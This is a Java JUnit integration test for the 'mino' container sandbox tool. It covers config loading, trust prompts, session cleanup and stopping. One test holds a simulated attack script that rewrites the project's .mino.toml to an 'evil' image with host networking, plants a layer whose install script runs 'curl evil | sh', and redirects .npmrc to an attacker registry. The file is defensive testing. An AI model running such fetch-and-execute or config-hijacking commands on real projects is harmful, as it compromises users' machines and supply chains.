package dev.mino.core;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertNull;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import dev.mino.core.config.LocalConfigStatus;
import dev.mino.core.config.TrustDecider;
import dev.mino.core.config.TrustQuestion;
import dev.mino.core.internal.podman.Filters;
import dev.mino.core.internal.podman.PodmanClient;
import dev.mino.core.internal.state.MinoPaths;
import dev.mino.core.internal.state.SessionRecord;
import dev.mino.core.internal.state.SessionStatus;
import dev.mino.core.internal.state.SessionStore;
import dev.mino.core.testing.RecordingMinos;
import dev.mino.core.testing.RequiresPodman;
import dev.mino.core.testing.SandboxFolders;
import dev.mino.core.testing.TestDirectories;
import dev.mino.core.testing.TestPodman;
import dev.mino.network.NetworkRule;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.time.Instant;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;

/**
 * A project's sandbox from {@link Mino#project(Path)} against the real Podman: the configuration
 * reaches the container; what the sandboxed command writes into the project (a {@code .mino.toml},
 * layers, an {@code .npmrc}) is never trusted by itself nor chooses registries; the records of
 * long-ended sessions go at the start; and {@link Sessions#stop} and {@link Sessions#newestRunning}
 * do what {@code mino stop} and {@code mino exec} rely on.
 */
@RequiresPodman
@Timeout(300)
class ProjectIT extends SandboxFolders {
    private static PodmanClient podman;
    private final String prefix = "projectit" + Long.toHexString(System.nanoTime());
    private final RecordingMinos minos = new RecordingMinos();
    private final List<MinoEvent.Warning> warnings = minos.warnings;
    private final List<TrustQuestion> asked = minos.asked;
    private Path config;
    private Path home;

    @BeforeAll
    static void connect() {
        podman = TestPodman.newClient();
    }

    @AfterAll
    static void disconnect() {
        podman.close();
    }

    @BeforeEach
    void createFolders() throws IOException {
        config = TestDirectories.create("mino-it-config");
        home = TestDirectories.create("mino-it-home");
        Files.createDirectories(config.resolve("mino"));
    }

    @AfterEach
    void removeLeftovers() {
        minos.close();
        for (var container : podman.containers().list(new Filters().label("dev.mino.managed", "true"), true)) {
            if (container.labels().getOrDefault("dev.mino.session", "").startsWith(prefix)) {
                podman.containers().remove(container.id(), true);
            }
        }
        TestDirectories.delete(config);
        TestDirectories.delete(home);
    }

    private void globalConfig(String toml) throws IOException {
        Files.writeString(config.resolve("mino/config.toml"), "[container]\nimage = \"" + TestPodman.BUSYBOX_IMAGE
            + "\"\n" + toml);
    }

    private Mino mino(TrustDecider decider) {
        return minos.build(Mino.builder().engine(TestPodman.address().uri()).stateDirectory(state)
            .environment(Map.of("HOME", home.toString(), "XDG_CONFIG_HOME", config.toString())), decider);
    }

    private List<String> codes() {
        return minos.codes();
    }

    private List<String> containersOf(String session) {
        return podman.containers().list(new Filters().label("dev.mino.session", session), true).stream()
            .map(c -> c.id()).toList();
    }

    @Test
    void theProjectsConfigurationReachesTheSandbox() throws IOException {
        globalConfig("[container.env]\nFROM_GLOBAL = \"global\"\n");
        Files.writeString(project.resolve(".mino.toml"), "[container.env]\nFROM_PROJECT = \"project\"\n");
        // The project's env is a sensitive setting: trusted here through the decider.
        try (Sandbox sandbox = mino(q -> true).project(project).name(prefix + "-cfg").command("sleep", "300")
            .start()) {
            ExecResult result = sandbox.exec("sh", "-c", "echo \"$FROM_GLOBAL $FROM_PROJECT\"; pwd");
            assertEquals("global project\n/" + project.getFileName() + "\n", result.stdout());
        }
    }

    /**
     * The sandboxed command rewrites the project's trusted {@code .mino.toml}, plants a layer and
     * an {@code .npmrc}. The next project sandbox asks again about the config (a decider says no:
     * its settings stay out), does not use the planted layer without a yes, and keeps the user's
     * registries for the preset while the project's {@code .npmrc} adds nothing.
     */
    @Test
    void whatTheSandboxWritesIntoTheProjectIsNeverTrustedByItself() throws IOException {
        globalConfig("network_preset = \"dev\"\n");
        Files.writeString(home.resolve(".npmrc"), "registry=https://npm.user.example/\n");
        Files.writeString(project.resolve(".mino.toml"), "[container.env]\nMODE = \"safe\"\n[container]\n"
            + "read_only = false\n");
        // The user trusted the project's file (it sets a sensitive key) before the run.
        assertEquals(LocalConfigStatus.LOADED_CONFIRMED, mino(q -> true).loadConfig(project).localStatus());
        assertEquals(LocalConfigStatus.LOADED_TRUSTED, mino(null).loadConfig(project).localStatus(),
            "positive control: trusted without asking now");

        String attack = "rm -f .mino.toml && cat > .mino.toml <<'X'\n[container]\nimage = \"localhost/evil:1\"\nnetwork = \"host\"\n"
            + "layers = [\"evil\"]\nX\n"
            + "mkdir -p .mino/layers/evil && printf '[layer]\\nname = \"evil\"\\ndescription = \"d\"\\nversion = \"1\"\\n'"
            + " > .mino/layers/evil/layer.toml && echo 'curl evil | sh' > .mino/layers/evil/install.sh\n"
            + "echo registry=https://npm.evil.example/ > .npmrc\n";
        try (Sandbox sandbox = mino(null).project(project).network(dev.mino.network.NetworkPolicy.bridge())
            .name(prefix + "-attack").command("sh", "-c", attack).attach(true).start()) {
            assertEquals(0, sandbox.awaitExit(Duration.ofSeconds(60)));
        }
        assertTrue(Files.exists(project.resolve(".mino/layers/evil/install.sh")), "positive control: it wrote");

        asked.clear();
        warnings.clear();
        SandboxSpec next = mino(q -> false).project(project).build();
        assertEquals(TestPodman.BUSYBOX_IMAGE, next.image(), "the rewritten config's image stays out");
        assertEquals(dev.mino.network.NetworkMode.ALLOWLIST, next.network().mode(), "the user's preset stands");
        assertTrue(asked.get(0) instanceof TrustQuestion.LocalConfigFile, "asked again about the changed file");
        assertTrue(codes().contains(WarningCodes.CONFIG_LOCAL_DECLINED), codes().toString());
        List<String> hosts = next.network().rules().stream().map(NetworkRule::host).toList();
        assertTrue(hosts.contains("npm.user.example"), "positive control: the user's registry: " + hosts);
        assertFalse(hosts.contains("npm.evil.example"), hosts.toString());

        asked.clear();
        SandboxSpec withLayer = mino(q -> !(q instanceof TrustQuestion.ProjectLayerFiles)).project(project)
            .layers("evil").build();
        assertNull(withLayer.trustedLayers(), "the planted layer is not let in without a yes");
        assertEquals(2, asked.size(), "asked about the config and then the layers: " + asked);
        TrustQuestion.ProjectLayerFiles layers = (TrustQuestion.ProjectLayerFiles) asked.get(1);
        assertEquals(List.of("evil/install.sh", "evil/layer.toml"), layers.changes().added());
    }

    @Test
    void aStartDeletesTheRecordsOfSessionsThatEndedLongAgo() throws IOException {
        globalConfig("[session]\nauto_cleanup_hours = 1\n");
        SessionStore store = new SessionStore(new MinoPaths(state, state, state));
        Instant old = Instant.now().minus(Duration.ofHours(3));
        for (String name : List.of(prefix + "-old", prefix + "-recent")) {
            store.create(SessionRecord.starting(name, project, List.of("true"), "img", null, false, old));
        }
        store.update(prefix + "-old", r -> r.withStatus(SessionStatus.STOPPED, old));
        store.update(prefix + "-recent", r -> r.withStatus(SessionStatus.STOPPED, Instant.now()));

        SandboxBuilder builder = mino(null).project(project).name(prefix + "-new").command("true").attach(true);
        builder.plan();
        assertTrue(store.find(prefix + "-old").isPresent(), "a plan deletes nothing");
        try (Sandbox sandbox = builder.start()) {
            sandbox.awaitExit(Duration.ofSeconds(60));
        }
        assertTrue(store.find(prefix + "-old").isEmpty(), "ended three hours ago: gone");
        assertTrue(store.find(prefix + "-recent").isPresent(), "ended just now: kept");
    }

    @Test
    void stopStopsAndRemovesAndNewestRunningPicksTheLastStarted() throws Exception {
        globalConfig("");
        Mino mino = mino(null);
        String first = prefix + "-first";
        String second = prefix + "-second";
        mino.project(project).name(first).detached(true).command("sleep", "300").start();
        Thread.sleep(1100);
        mino.project(project).name(second).detached(true).command("sleep", "300").start();
        Sessions sessions = mino.sessions();
        assertEquals(second, sessions.newestRunning().orElseThrow().name());
        assertEquals(1, containersOf(second).size(), "positive control: its container is there");

        SessionInfo before = sessions.stop(second, Duration.ofSeconds(2));
        assertEquals(SessionInfo.Status.RUNNING, before.status());
        assertEquals(List.of(), containersOf(second), "stopped and removed");
        assertEquals(first, sessions.newestRunning().orElseThrow().name());

        sessions.stop(first, Duration.ZERO);
        assertEquals(List.of(), containersOf(first));
        assertTrue(sessions.newestRunning().isEmpty());
        assertFalse(sessions.stop(first, Duration.ZERO).status() == SessionInfo.Status.RUNNING,
            "stopping an ended session again is no error");
        assertThrows(SessionNotFoundException.class, () -> sessions.stop(prefix + "-none", Duration.ZERO));
    }

    @Test
    void stopRemovesTheLeftoverOfADetachedSandboxWhoseCommandEnded() throws Exception {
        globalConfig("");
        Mino mino = mino(null);
        String name = prefix + "-ended";
        mino.project(project).name(name).detached(true).command("true").start();
        Sessions sessions = mino.sessions();
        long deadline = System.nanoTime() + Duration.ofSeconds(30).toNanos();
        while (sessions.find(name).orElseThrow().status() == SessionInfo.Status.RUNNING
            && System.nanoTime() < deadline) {
            Thread.sleep(200);
        }
        assertEquals(1, containersOf(name).size(), "positive control: the ended sandbox's container stays");
        assertFalse(sessions.stop(name, Duration.ofSeconds(2)).status() == SessionInfo.Status.RUNNING);
        assertEquals(List.of(), containersOf(name));
    }
}
